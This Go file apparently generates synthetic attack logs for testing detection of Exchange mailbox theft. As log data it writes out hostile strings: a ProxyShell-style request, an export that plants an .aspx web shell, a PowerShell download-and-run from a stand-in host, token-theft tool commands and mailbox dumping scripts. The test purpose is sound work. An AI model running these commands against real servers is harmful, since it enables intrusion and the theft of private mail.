package otherworld

import (
	"net/netip"
	"time"

	"redshank/test/world/dice"
	"redshank/test/world/lines"
)

// guess are some wrong passwords and the right one, on the form.
func (r *robbery) guess(at time.Time, wrong int) time.Time {
	for range wrong {
		r.Saw(at, r.ip, r.victim.upn())
		r.w.log.Form(at, r.from(), r.victim.upn(), lines.Wrong)
		at = at.Add(r.w.seconds(15, 90))
	}
	r.Saw(at, r.ip, r.victim.upn())
	r.w.log.Form(at, r.from(), r.victim.upn(), lines.Right)
	r.Found(r.victim.upn(), r.ip)
	return at.Add(r.w.seconds(20, 200))
}

// requests are n requests to a service with name and password.
func (r *robbery) requests(at time.Time, s lines.Service, n int, low, high float64, query string) {
	for range n {
		r.Saw(at, r.ip, r.victim.upn())
		r.w.log.Basic(at, r.from(), s, r.victim.down(), query, lines.Right)
		at = at.Add(r.w.seconds(low, high))
	}
}

func (r *robbery) exports(at time.Time, by *person, mailbox *person) {
	w := r.w
	w.log.Cmdlet(at, w.domain+"/Users/"+by.name, "New-MailboxExportRequest", `-Mailbox "`+mailbox.name+`" -FilePath "\\`+w.log.Servers[0]+`\c$\temp\m.pst"`)
}

func (r *robbery) serverExport() {
	r.agent = dice.OneOf(r.w, tools[0], tools[6], oldBrowsers[0])
	targets := append(r.w.accounts(r.w.Number(12, 40), 0.15), r.victim.aim())
	v, a := dice.OneOf(r.w, lines.ByForm, byEWS), r.w.Attack("AN1269", "list tried, then exported", manyway...)
	begin := r.at.Add(-r.w.minutes(10, 90))
	for i, t := range targets {
		right := lines.Verdict(0)
		if i == len(targets)-1 {
			right = lines.Right + 1
		}
		r.w.At(begin.Add(time.Duration(i)*r.at.Sub(begin)/time.Duration(len(targets)+1)), func(at time.Time) { r.w.try(a, at, r.from(), v, t, right) })
	}
	r.run(func(at time.Time) {
		r.agent = "Microsoft WinRM Client"
		r.exports(r.shell(at), r.victim, dice.OneOf(r.w, r.w.people...))
	})
}

func (r *robbery) proxyShell() {
	r.agent, r.Host = dice.OneOf(r.w, "python-requests/2.25.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/92.0", ""), r.w.log.Servers[0]+"."+r.w.domain
	admin := r.w.admins[0]
	r.run(func(at time.Time) {
		for range r.w.Number(6, 20) {
			r.Saw(at, r.ip, r.victim.upn())
			r.w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "a=" + r.w.token()[:5] + "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json?a=x@evil.example", Status: 200, Out: 1400})
			at = at.Add(r.w.seconds(1, 8))
		}
		r.Saw(at, r.ip, admin.upn())
		r.w.log.Cmdlet(at, r.w.domain+"/Users/"+admin.name, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+admin.name+`"`)
		r.w.log.Cmdlet(at.Add(9*time.Second), r.w.domain+"/Users/"+admin.name, "New-MailboxExportRequest", `-Mailbox "`+r.victim.name+`" -IncludeFolders ("#Drafts#") -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\`+r.w.token()[:6]+`.aspx"`)
	})
}

func (r *robbery) mailSniper() {
	r.ip, r.agent = r.w.rented(), "ExchangeServicesClient/15.00.0847.030"
	r.run(func(at time.Time) { r.requests(at, lines.EWS, r.w.Number(60, 300), 0.5, 6, "") })
}

func (r *robbery) bareEWS() {
	r.ip, r.agent = r.w.rented(), ""
	r.at = r.at.Truncate(24 * time.Hour).Add(dice.Hours(r.w.draw(span{1, 4}))).Add(-time.Duration(r.w.countries[0].zone) * time.Hour)
	r.run(func(at time.Time) { r.requests(at, lines.EWS, r.w.Number(150, 400), 0.5, 5, "") })
}

func (r *robbery) serverImpersonation() {
	account := r.w.netbios + `\svc-meet`
	home, c := netip.AddrFrom4([4]byte{10, 20, 3, 19}), lines.Client{}
	honest := r.w.Honest("service account in honest use on the server", r.w.Start, r.w.End())
	agent := "ExchangeServicesClient/15.00.0913.015"
	r.w.During(r.w.Start, r.w.End(), 6*time.Minute, func(at time.Time) {
		honest.Saw(home, "svc-meet@"+r.w.domain)
		r.w.log.Basic(at, client(home, agent), lines.EWS, account, "", lines.Right)
	})
	r.ip = r.w.rented()
	c = client(r.ip, dice.OneOf(r.w, agent, "python-requests/2.31.0", "exchangelib/5.0.3 (python-requests/2.31.0)"))
	r.run(func(at time.Time) {
		for range r.w.Number(80, 300) {
			r.Saw(at, r.ip, "svc-meet@"+r.w.domain)
			r.w.log.Basic(at, c, lines.EWS, account, "", lines.Right)
			at = at.Add(r.w.seconds(1, 12))
		}
	})
}

func (r *robbery) serverOutlook() {
	r.ip, r.agent = r.w.rented(), "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
	r.run(func(at time.Time) {
		r.w.log.NTLM(at, r.from(), lines.Autodiscover, r.victim.down(), lines.Right)
		for range r.w.Number(80, 250) {
			at = at.Add(r.w.seconds(1, 10))
			r.Saw(at, r.ip, r.victim.upn())
			r.w.log.Signed(at, r.from(), lines.MAPI, r.victim.down(), "", r.w.Number(50_000, 900_000))
		}
	})
}

// download is a whole mailbox by a mail protocol, in a number of sessions.
func (r *robbery) download(session func(at time.Time)) {
	r.ip = dice.OneOf(r.w, r.w.rented(), dice.OneOf(r.w, r.w.foreign...).V4(r.w.Rand.Uint64()))
	r.run(func(at time.Time) {
		for range r.w.Number(3, 9) {
			r.Saw(at, r.ip, r.victim.upn())
			session(at)
			at = at.Add(r.w.minutes(1, 9))
		}
	})
}

func (r *robbery) serverIMAP() {
	r.download(func(at time.Time) {
		r.w.log.IMAP(at, client(r.ip, ""), r.victim.upn(), lines.Right, r.w.Number(60, 250))
	})
}

func (r *robbery) serverPOP() {
	r.download(func(at time.Time) {
		r.w.log.POP(at, client(r.ip, ""), r.victim.upn(), lines.Right, r.w.Number(60, 250))
	})
}

func (r *robbery) serverEAS() {
	r.ip, r.agent = r.w.rented(), dice.OneOf(r.w, "python-requests/2.31.0", "PEAS/1.0", "")
	query := lines.Device(r.victim.down(), r.w.token()[:12], dice.OneOf(r.w, "Python", "Android"), "Sync")
	r.run(func(at time.Time) { r.requests(at, lines.EAS, r.w.Number(60, 200), 1, 8, query) })
}

func (r *robbery) serverByHand() {
	r.ip, r.agent = dice.OneOf(r.w, r.w.hosting[1:]...).V4(r.w.Rand.Uint64()), r.w.current(r.w.Start)
	r.run(func(at time.Time) {
		at = r.guess(at, r.w.Number(2, 4))
		for range r.w.Number(40, 120) {
			r.Saw(at, r.ip, r.victim.upn())
			r.w.log.Web(lines.Request{At: at, Client: r.from(), Service: lines.OWA, Stem: "/owa/service.svc", Query: "action=GetItem", User: r.victim.upn(), Status: 200, Signed: true, Out: r.w.Number(3000, 90000)})
			at = at.Add(r.w.seconds(8, 90))
		}
	})
}

func (r *robbery) scriptBlock() {
	r.Host = "PC-" + r.w.token()[:5] + "." + r.w.domain
	r.run(func(at time.Time) {
		r.Saw(at, netip.Addr{}, r.victim.upn())
		r.w.log.ScriptBlock(at, r.Host, r.victim.down(), dice.OneOf(r.w,
			"IEX (New-Object Net.WebClient).DownloadString('http://files.invalid/MailSniper.ps1'); Invoke-SelfSearch -Mailbox "+r.victim.upn()+" -ExchHostname mail."+r.w.domain,
			"Import-Module AADInternals; $at = Get-AADIntAccessTokenForExchangeOnline -SaveToCache; Open-AADIntOWA",
			"Import-Module .\\TokenTactics.psd1; Get-AzureToken -Client MSGraph; Invoke-RefreshToMSGraphToken -domain "+r.w.domain+"; Invoke-DumpOWAMailboxViaMSGraphApi -AccessToken $t -mailFolder inbox -top 200",
			". .\\GraphRunner.ps1; Get-GraphTokens; Get-Inbox -Tokens $tokens -userid "+r.victim.upn()+" -TotalMessages 50 -OutFile mail.json",
		))
		r.w.log.Query(at.Add(2*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, dice.OneOf(r.w, "outlook.office365.com", "mail."+r.w.domain))
	})
}

// comScript is PowerShell that reads the mailbox through Outlook on the computer.
func (r *robbery) comScript() {
	r.Host = "PC-" + r.w.token()[:5] + "." + r.w.domain
	r.run(func(at time.Time) {
		r.Saw(at, netip.Addr{}, r.victim.upn())
		r.w.log.ScriptBlock(at, r.Host, r.victim.down(), dice.OneOf(r.w,
			"$o = New-Object -ComObject Outlook.Application; $n = $o.GetNamespace('MAPI'); $f = $n.GetDefaultFolder(6); $f.Items | % { $_.SaveAs(\"$env:TEMP\\m\\$($_.EntryID).msg\") }; Compress-Archive $env:TEMP\\m $env:TEMP\\m.zip",
			"Add-Type -AssemblyName Microsoft.Office.Interop.Outlook; $ns = (New-Object -ComObject Outlook.Application).GetNamespace('MAPI'); foreach ($i in $ns.GetDefaultFolder(6).Items) { $i.Body | Out-File -Append C:\\ProgramData\\x.txt }"))
		r.w.log.Query(at.Add(4*time.Second), r.Host, r.victim.down(), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "transfer.invalid")
	})
}

func (r *robbery) remoteExport() {
	owner := r.victim
	r.becomesAdmin()
	r.agent = "Microsoft WinRM Client"
	r.ip = r.w.rented()
	r.run(func(at time.Time) {
		at = r.shell(at)
		r.Saw(at, r.ip, owner.upn())
		r.exports(at, r.victim, owner)
	})
}

// searchMailbox copies what it finds in all mailboxes into one.
func (r *robbery) searchMailbox() {
	owner := r.victim
	r.becomesAdmin()
	r.ip, r.agent = r.w.rented(), "Microsoft WinRM Client"
	r.run(func(at time.Time) {
		at = r.shell(at)
		r.Saw(at, r.ip, owner.upn())
		r.w.log.Cmdlet(at, r.w.domain+"/Users/"+r.victim.name, "Search-Mailbox", `-Identity "`+owner.name+`" -SearchQuery "password" -TargetMailbox "`+r.victim.name+`" -TargetFolder "x"`)
	})
}

// shell are requests of remote PowerShell.
func (r *robbery) shell(at time.Time) time.Time {
	for range r.w.Number(4, 9) {
		r.Saw(at, r.ip, r.victim.upn())
		r.w.log.Signed(at, r.from(), lines.PowerShell, r.victim.down(), "", 4000)
		at = at.Add(r.w.seconds(2, 40))
	}
	return at
}

func (r *robbery) serverGranted() {
	r.becomesAdmin()
	r.ip, r.agent = r.w.rented(), "Microsoft WinRM Client"
	r.run(func(at time.Time) {
		at = r.shell(at)
		r.w.log.Cmdlet(at, r.w.domain+"/Users/"+r.victim.name, "New-ManagementRoleAssignment", `-Name "x" -Role "ApplicationImpersonation" -User "`+r.victim.name+`"`)
		r.agent = dice.OneOf(r.w, "ExchangeServicesClient/15.00.0913.015", "python-requests/2.31.0")
		r.requests(at.Add(r.w.minutes(1, 30)), lines.EWS, r.w.Number(80, 300), 0.5, 6, "")
	})
}
